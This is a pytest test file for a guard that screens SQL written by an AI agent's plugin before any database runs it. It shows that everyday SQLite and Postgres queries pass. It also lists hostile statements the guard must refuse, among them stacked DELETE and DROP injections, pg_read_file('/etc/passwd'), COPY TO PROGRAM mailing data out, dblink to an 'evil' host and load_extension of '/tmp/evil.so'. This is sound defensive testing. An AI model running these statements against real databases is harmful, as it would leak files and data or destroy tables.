"""The first guard of the plugin `sql`: what a statement says, looked at before a database sees it."""

from __future__ import annotations

import pytest
import sqlglot.expressions

from autoagent.errors import NotDone, ToolError
from autoagent_sql import grammar
from autoagent_sql.reading import check_change, check_query

QUERIES = {
    "sqlite": [
        "SELECT c.name, round(sum(o.qty * p.price), 2) AS total, strftime('%Y-%m', o.day) AS month, "
        "count(*) FILTER (WHERE o.qty > 1) FROM orders o JOIN customers c ON c.id = o.customer_id "
        "LEFT JOIN products p USING (id) WHERE o.day BETWEEN '2026-10-01' AND date('now', '-7 days') "
        "GROUP BY 1 HAVING total > 3 ORDER BY total DESC NULLS LAST LIMIT 5 OFFSET 1",
        "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT n, "
        "row_number() OVER (PARTITION BY n ORDER BY n ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) "
        "FROM t",
        "SELECT CASE WHEN a LIKE 'x%' ESCAPE '!' THEN 1 ELSE cast(b AS integer) END, "
        "group_concat(DISTINCT a), "
        "json_extract(a, '$.b'), a ->> '$.c', iif(a, b, c), julianday('now'), a || b, exists(SELECT 1), "
        "printf('%d', a), total(a) FROM t AS x WHERE rowid = 3 AND a GLOB 'b*' AND a IN (SELECT 1)",
        "VALUES (1, 2)",
        "(SELECT 1) INTERSECT SELECT 2 EXCEPT SELECT 3;",
        "SELECT * FROM json_each('[1]'), pragma_table_info('t') -- the columns",
    ],
    "postgres": [
        "SELECT date_trunc('month', at)::date, extract(year FROM d), to_char(d, 'YYYY'), "
        "array_agg(a ORDER BY b), "
        "string_agg(a, ','), percentile_cont(0.5) WITHIN GROUP (ORDER BY x), now() - interval '7 days', "
        "a::numeric(10, 2), a @> '{\"x\": 1}'::jsonb, a -> 'b' ->> 'c', a[1], x AT TIME ZONE 'UTC', $$x$$, "
        "a IS DISTINCT FROM b, a = ANY (ARRAY[1]), regexp_replace(a, 'b', 'c', 'g'), make_date(2026, 1, 1), "
        "lag(a) OVER (ORDER BY b) FROM s.t AS t CROSS JOIN LATERAL (SELECT 1) x "
        "WHERE a ILIKE '%x%' AND a ~* 'b' "
        "GROUP BY ROLLUP (a), GROUPING SETS ((a), ()) FETCH FIRST 5 ROWS ONLY",
        "SELECT DISTINCT ON (a) a FROM t TABLESAMPLE system (10) ORDER BY a NULLS FIRST",
        "SELECT * FROM jsonb_to_recordset('[]') AS x(a int, b text), generate_series(1, 3) WITH ORDINALITY",
        "WITH a AS NOT MATERIALIZED (SELECT 1) SELECT x.* FROM (VALUES (1, 'a')) AS x(a, b), a",
        "TABLE customers",
    ],
}


@pytest.mark.parametrize(("dialect", "query"), [(d, q) for d, queries in QUERIES.items() for q in queries])
def test_a_query_that_computes_passes(dialect: str, query: str) -> None:
    """What people ask for every day isn't in the way of the guard."""
    assert check_query(query, dialect) == query.rstrip(";")


ATTACKS = [
    ("sqlite", "DELETE FROM orders", "only a query"),
    ("sqlite", "SELECT 1; DELETE FROM orders", "these are 2"),
    ("sqlite", "SELECT 1 /* ; */ ; -- x\n DROP TABLE orders", "these are 2"),
    ("sqlite", "", "these are 0"),
    ("sqlite", "ATTACH '/etc/passwd' AS other", "ATTACH"),
    ("sqlite", "PRAGMA writable_schema = 1", "PRAGMA"),
    ("sqlite", "VACUUM INTO '/tmp/stolen'", "VACUUM"),
    ("sqlite", "SELECT load_extension('/tmp/evil.so')", "load_extension()"),
    ("sqlite", "SELECT writefile('/tmp/x', 'y')", "writefile()"),
    ("sqlite", "SELECT * FROM t WHERE a = ?", "placeholder"),
    ("postgres", "WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone", "DELETE"),
    (
        "postgres",
        "SELECT * FROM LATERAL (WITH x AS (INSERT INTO t VALUES (1) RETURNING *) TABLE x) b",
        "INSERT",
    ),
    ("postgres", "SELECT * INTO copy FROM orders", "INTO makes a table"),
    ("postgres", "SELECT * FROM orders FOR UPDATE", "lock rows"),
    ("postgres", "COPY orders TO PROGRAM 'mail eve@example.org'", "COPY"),
    ("postgres", "SELECT pg_read_file('/etc/passwd')", "pg_read_file()"),
    ("postgres", "SELECT \"pg_read_file\"('/etc/passwd')", "pg_read_file()"),
    ("postgres", "SELECT pg_catalog.pg_sleep(1000)", "pg_sleep()"),
    ("postgres", "SELECT * FROM pg_ls_dir('/')", "pg_ls_dir()"),
    ("postgres", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "dblink()"),
    ("postgres", "SELECT query_to_xml('DELETE FROM orders', true, true, '')", "query_to_xml()"),
    ("postgres", "SELECT set_config('transaction_read_only', 'off', false)", "set_config()"),
    ("postgres", "SELECT lo_import('/etc/passwd')", "lo_import()"),
    ("postgres", "SELECT pg_terminate_backend(1)", "pg_terminate_backend()"),
    ("postgres", "SELECT nextval('orders_id_seq')", "nextval()"),
    ("postgres", "SELECT a FROM t ORDER BY (SELECT pg_sleep(9))", "pg_sleep()"),
    ("postgres", "DO $$ BEGIN DELETE FROM orders; END $$", "DO"),
    ("postgres", "EXPLAIN ANALYZE DELETE FROM orders", "EXPLAIN"),
    ("postgres", "SET TRANSACTION READ WRITE", "SET"),
    ("postgres", "CALL clean_up()", "CALL"),
    ("postgres", "SELECT 'it''s", "isn't SQL"),
    ("postgres", "SELECT " + "(" * 5000 + "1" + ")" * 5000, "nested too deep"),
    ("postgres", "SELECT '" + "x" * 30_000 + "'", "too long"),
]


@pytest.mark.parametrize(("dialect", "query", "why"), ATTACKS)
def test_what_could_do_more_is_refused(dialect: str, query: str, why: str) -> None:
    """Before a database sees it, with the part that is in the way."""
    with pytest.raises(ToolError) as refused:
        check_query(query, dialect)

    assert why in str(refused.value)


def test_a_function_of_ones_own_passes_when_the_person_vouches_for_it() -> None:
    """Its name stands in the settings; letter case doesn't count, as in SQL."""
    with pytest.raises(ToolError, match=r"stock_of\(\) isn't among"):
        check_query("SELECT stock_of(3)", "postgres")

    assert check_query("SELECT Stock_Of(3)", "postgres", ["stock_of"])


@pytest.mark.parametrize(
    "statement",
    [
        "INSERT INTO t (a, b) SELECT 1, 2 FROM u WHERE x RETURNING a",
        "UPDATE t SET a = a + 1 WHERE b = 2 RETURNING *",
        "DELETE FROM t WHERE true",
        "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = excluded.a",
        "MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN DELETE "
        "WHEN NOT MATCHED THEN INSERT (a) VALUES (1)",
    ],
)
def test_a_change_of_rows_passes(statement: str) -> None:
    """Also with what it gives back."""
    assert check_change(statement, "postgres") == statement


@pytest.mark.parametrize(
    ("statement", "why"),
    [
        ("DELETE FROM t", "every row"),
        ("WITH gone AS (DELETE FROM t RETURNING a) INSERT INTO u SELECT a FROM gone", "every row"),
        ("DROP TABLE t", "DROP"),
        ("TRUNCATE t", "TRUNCATE"),
        ("SELECT 1", "SELECT"),
        ("GRANT ALL ON t TO public", "GRANT"),
        ("INSERT INTO t VALUES (pg_read_file('/etc/passwd'))", "pg_read_file()"),
        ("INSERT INTO t VALUES (1); DROP TABLE t", "these are 2"),
    ],
)
def test_other_changes_are_refused(statement: str, why: str) -> None:
    """Certainly nothing was changed then, and the model reads so."""
    with pytest.raises(NotDone) as refused:
        check_change(statement, "postgres")

    assert why in str(refused.value)


def test_every_name_of_the_grammar_is_one_of_sqlglots() -> None:
    """A name that it renames would silently stop queries that passed before."""
    kinds = vars(sqlglot.expressions)

    unknown = [name for name in grammar.CHANGE_NODES | grammar.FUNCTIONS if name not in kinds]
    assert unknown == []
    assert all(issubclass(kinds[name], sqlglot.expressions.Func) for name in grammar.FUNCTIONS)
